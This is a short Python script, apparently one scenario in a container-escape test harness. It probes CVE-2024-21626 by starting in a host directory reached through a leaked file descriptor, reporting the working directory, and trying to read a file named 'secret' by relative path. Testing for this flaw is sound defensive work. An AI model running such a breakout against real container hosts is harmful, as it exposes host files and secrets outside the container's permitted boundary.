"""A2: CVE-2024-21626: start in a directory of the host that a leaked descriptor holds, and read from there by relative names."""

import os

from attack import attempt, report


def read():
    with open("secret", encoding="ascii") as file:
        return file.read()


report("cwd", os.readlink("/proc/self/cwd"))
report("secret", attempt("read", read))
